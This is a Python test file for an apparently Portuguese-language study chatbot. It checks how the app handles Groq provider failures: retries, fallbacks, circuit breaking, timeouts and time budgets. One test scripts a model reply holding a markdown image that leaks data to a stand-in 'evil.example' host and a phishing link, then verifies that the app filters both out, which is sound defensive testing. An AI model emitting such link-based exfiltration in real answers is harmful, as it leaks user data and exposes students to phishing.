"""What a student receives when the LLM provider fails: every case a real HTTP round trip
through the app and the real langchain-groq client to the fake Groq server."""

import subprocess
import sys
import time

import pytest
import redis

from chatgepeto.devtools.fake_groq import CutStream, Error, Hang, Malformed, Reply

from conftest import SSE, collection_with, parse_sse, redis_test_url

QUESTION = {"question": "O que é deriva genética?"}


@pytest.fixture
def make_client(make_app, make_settings, fake_groq, biology_pdf):
    """A client whose Groq is the fake server, with quick retries; settings overridable."""

    built = []

    def build(**overrides):
        values = {
            "groq_api_key": "test-key",
            "groq_base_url": fake_groq.base_url,
            "llm_max_retries": 2,
            "llm_stream_idle_timeout": 2.0,
            "breaker_fail_max": 5,
            "breaker_reset_seconds": 30.0,
        }
        values.update(overrides)
        client = make_app(make_settings(**values)).test_client()
        # Several clients may share the data folder (workers): each gets its own collection.
        name = f"Biologia {len(built)}"
        built.append(client)
        return client, collection_with(client, ("bio.pdf", biology_pdf), name=name)

    return build


def breaker_state(client) -> str:
    return client.get("/api/ready").get_json()["checks"]["llm"]["providers"][0]["breaker"]


def ask(client, collection_id, **extra):
    response = client.post("/api/ask", json={**QUESTION, "collection_id": collection_id}, **extra)
    assert response.status_code == 200, response.get_data(as_text=True)
    return response


def test_rate_limit_is_retried_after_retry_after(make_client, fake_groq):
    client, collection_id = make_client()
    fake_groq.script(Error(status=429, retry_after=0.2))
    started = time.monotonic()
    body = ask(client, collection_id).get_json()
    assert body["mode"] == "generated" and body["provider"] == "groq"
    assert fake_groq.calls == 2
    assert time.monotonic() - started >= 0.2


def test_capacity_error_498_is_retried(make_client, fake_groq):
    client, collection_id = make_client()
    fake_groq.script(Error(status=498, retry_after=0.05))
    body = ask(client, collection_id).get_json()
    assert body["mode"] == "generated" and fake_groq.calls == 2


def test_at_most_three_upstream_calls_then_extractive(make_client, fake_groq):
    client, collection_id = make_client()
    fake_groq.default = Error(status=500, retry_after=0.01)
    body = ask(client, collection_id).get_json()
    assert body["mode"] == "extractive" and body["citations"]
    assert fake_groq.calls == 3  # the SDK's retries only: nothing multiplies them


def test_a_bad_request_is_not_retried(make_client, fake_groq):
    client, collection_id = make_client()
    fake_groq.default = Error(status=400)
    body = ask(client, collection_id).get_json()
    assert body["mode"] == "extractive"
    assert fake_groq.calls == 1


def test_malformed_reply_falls_back_to_extractive(make_client, fake_groq):
    client, collection_id = make_client(llm_max_retries=0)
    fake_groq.script(Malformed())
    assert ask(client, collection_id).get_json()["mode"] == "extractive"


def test_silent_provider_is_cut_by_the_idle_timeout(make_client, fake_groq):
    client, collection_id = make_client(llm_max_retries=0, llm_stream_idle_timeout=0.3)
    fake_groq.script(Hang(5))
    started = time.monotonic()
    body = ask(client, collection_id).get_json()
    assert body["mode"] == "extractive"
    assert time.monotonic() - started < 3


def test_stream_silent_after_tokens_ends_with_error(make_client, fake_groq):
    client, collection_id = make_client(llm_max_retries=0, llm_stream_idle_timeout=0.3)
    fake_groq.script(Reply(delay_between=2.0))
    parts = parse_sse(ask(client, collection_id, headers=SSE).get_data(as_text=True))
    types = [p["type"] if isinstance(p, dict) else p for p in parts]
    assert "text-delta" in types and "error" in types and "finish" not in types
    conversation = client.get(
        f"/api/conversations/{parts[0]['messageMetadata']['conversation_id']}"
    ).get_json()
    assert conversation["messages"][1]["incomplete"] is True


def test_cut_stream_is_not_retried(make_client, fake_groq):
    client, collection_id = make_client()
    fake_groq.script(CutStream(after_tokens=2))
    parts = parse_sse(ask(client, collection_id, headers=SSE).get_data(as_text=True))
    assert any(isinstance(p, dict) and p["type"] == "error" for p in parts)
    assert fake_groq.calls == 1


def test_fallback_to_a_second_groq_model(make_client, fake_groq):
    client, collection_id = make_client(
        groq_fallback_model="llama-3.1-8b-instant", llm_max_retries=0
    )
    fake_groq.script(Error(status=503))
    body = ask(client, collection_id).get_json()
    assert body["mode"] == "generated"
    assert body["provider"] == "groq-fallback" and body["model"] == "llama-3.1-8b-instant"
    assert body["fallback"] is True
    assert [r["model"] for r in fake_groq.requests] == [
        "llama-3.3-70b-versatile",
        "llama-3.1-8b-instant",
    ]
    # The web app labels it, in the stream and when the conversation is reopened.
    conversation = client.get(f"/api/conversations/{body['conversation_id']}").get_json()
    assert conversation["messages"][-1]["fallback"] is True
    fake_groq.script(Error(status=503))
    parts = parse_sse(ask(client, collection_id, headers=SSE).get_data(as_text=True))
    finish = next(p for p in parts if isinstance(p, dict) and p["type"] == "finish")
    assert finish["messageMetadata"]["fallback"] is True


def test_fallback_to_an_openai_compatible_endpoint(make_client, fake_groq):
    client, collection_id = make_client(
        llm_max_retries=0,
        openai_base_url=f"{fake_groq.base_url}/openai/v1",
        openai_api_key="local",
        openai_model="qwen2.5:7b",
    )
    fake_groq.script(Error(status=500))
    body = ask(client, collection_id).get_json()
    assert body["mode"] == "generated" and body["provider"] == "openai"
    assert body["model"] == "qwen2.5:7b" and "[1]" in body["answer"]


def test_breaker_opens_fails_fast_and_closes_again(make_client, fake_groq):
    client, collection_id = make_client(
        llm_max_retries=0, breaker_fail_max=2, breaker_reset_seconds=0.5
    )
    fake_groq.default = Error(status=500)
    for _ in range(2):
        assert ask(client, collection_id).get_json()["mode"] == "extractive"
    assert fake_groq.calls == 2
    ready = client.get("/api/ready").get_json()["checks"]["llm"]
    assert ready["providers"][0]["breaker"] == "open" and ready["status"] == "degraded"
    assert 'chatgepeto_llm_breaker_open{provider="groq"} 1.0' in client.get("/metrics").get_data(
        as_text=True
    )

    started = time.monotonic()
    assert ask(client, collection_id).get_json()["mode"] == "extractive"
    assert fake_groq.calls == 2  # open: no network call at all
    assert time.monotonic() - started < 1.0

    time.sleep(0.6)
    fake_groq.default = Reply()
    body = ask(client, collection_id).get_json()  # the trial call succeeds
    assert body["mode"] == "generated" and fake_groq.calls == 3
    assert (
        client.get("/api/ready").get_json()["checks"]["llm"]["providers"][0]["breaker"] == "closed"
    )


def test_client_errors_do_not_open_the_breaker(make_client, fake_groq):
    client, collection_id = make_client(llm_max_retries=0, breaker_fail_max=1)
    fake_groq.script(Error(status=400), Error(status=401))
    ask(client, collection_id)
    ask(client, collection_id)
    assert (
        client.get("/api/ready").get_json()["checks"]["llm"]["providers"][0]["breaker"] == "closed"
    )
    assert ask(client, collection_id).get_json()["mode"] == "generated"


def test_breaker_state_is_shared_through_redis(make_client, fake_groq):
    url = redis_test_url()
    namespace_probe = redis.Redis.from_url(url)
    namespace_probe.delete(*namespace_probe.keys("chatgepeto:breaker:*") or ["-"])
    settings = {"llm_max_retries": 0, "breaker_fail_max": 1, "redis_url": url}
    settings["job_runner"] = "thread"  # Redis for the breaker; ingestion stays in process
    first, collection_id = make_client(**settings)
    second, second_collection = make_client(**settings)  # another worker
    fake_groq.default = Error(status=500)
    ask(first, collection_id)
    calls = fake_groq.calls
    assert breaker_state(second) == "open"
    assert ask(second, second_collection).get_json()["mode"] == "extractive"
    assert fake_groq.calls == calls  # the second worker failed fast too
    # And a separate process (another gunicorn worker) sees the same state.
    probe = (
        "from chatgepeto.answering.providers import make_provider_chain;"
        "from chatgepeto.settings import Settings;"
        f"s = Settings(_env_file=None, groq_api_key='k', redis_url='{url}', breaker_fail_max=1);"
        "print(make_provider_chain(s).states()[0]['breaker'])"
    )
    other = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, timeout=60, check=True
    )
    assert other.stdout.strip() == "open"
    namespace_probe.delete(*namespace_probe.keys("chatgepeto:breaker:*") or ["-"])


def test_injected_images_and_links_never_reach_the_student(make_client, fake_groq):
    client, collection_id = make_client(link_allowlist="usp.br")
    evil = (
        "Veja ![x](https://evil.example/leak?d=segredo) e [o site](https://phish.example/login)"
        " ou [a apostila](https://www.usp.br/bio) [1]."
    )
    fake_groq.script(Reply(text=evil), Reply(text=evil))
    body = ask(client, collection_id).get_json()
    assert "evil.example" not in body["answer"] and "phish" not in body["answer"]
    assert "o site" in body["answer"] and "[a apostila](https://www.usp.br/bio)" in body["answer"]
    parts = parse_sse(ask(client, collection_id, headers=SSE).get_data(as_text=True))
    streamed = "".join(
        p["delta"] for p in parts if isinstance(p, dict) and p["type"] == "text-delta"
    )
    assert streamed == body["answer"]


def test_the_time_budget_stops_retries_and_fallbacks(make_client, fake_groq):
    client, collection_id = make_client(
        llm_budget_seconds=1.0, llm_max_retries=3, groq_fallback_model="llama-3.1-8b-instant"
    )
    # The provider asks to come back in 5 s: more than the whole budget, so no retry waits.
    fake_groq.default = Error(status=429, retry_after=5)
    started = time.monotonic()
    body = ask(client, collection_id).get_json()
    assert body["mode"] == "extractive"
    assert time.monotonic() - started < 2.5
    assert fake_groq.calls == 2  # one call per provider, no retries


def test_a_hanging_provider_cannot_outlast_the_budget(make_client, fake_groq):
    client, collection_id = make_client(
        llm_budget_seconds=0.8, llm_max_retries=0, llm_stream_idle_timeout=30
    )
    fake_groq.script(Hang(10))
    started = time.monotonic()
    assert ask(client, collection_id).get_json()["mode"] == "extractive"
    assert time.monotonic() - started < 3
